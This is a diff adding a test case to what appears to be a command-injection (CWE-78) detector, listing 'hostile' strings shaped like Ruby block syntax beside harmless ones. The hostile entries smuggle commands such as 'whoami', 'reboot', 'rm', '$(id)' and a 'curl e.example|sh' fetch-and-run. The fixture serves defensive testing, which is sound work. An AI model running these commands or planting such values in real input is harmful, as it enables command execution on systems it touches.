@@ -36,6 +36,32 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'only (html|css|bash|sql) is shown',
     ],
   },
+  'the variables of a block of Ruby’s, as error reports show them (CWE-78)': {
+    hostile: [
+      'x do |id|',
+      'a.b do |whoami|',
+      'a.b do |reboot|',
+      'a.b do |env|',
+      'a.b do |cmd|',
+      'rm a.b do |sh|',
+      '!id a.b do |ex|',
+      'a.b; do |id|',
+      'a.b\nx do |id|',
+      'a.b $(id) do |id|',
+      'a.b do |id|sh',
+      'a.b do |id|\nwhoami',
+      'a.b { |id| whoami }',
+      'a.b { |id|curl e.example|sh }',
+      'a.b&reboot&c.d do |id|',
+    ],
+    honest: [
+      'config.around(:each) do |ex|',
+      'users.each do |id|',
+      '  list.map(&:name).each do |file|',
+      'rows.find_all { |id| id.even? }',
+      'path.open(mode) do |file|',
+    ],
+  },
   'a sum behind a pipe, where something is set (CWE-78)': {
     hostile: ['set whoami; $1', 'set id|$1', 'set x; set -- id; $@', 'set a id;$1$2'],
     honest: [
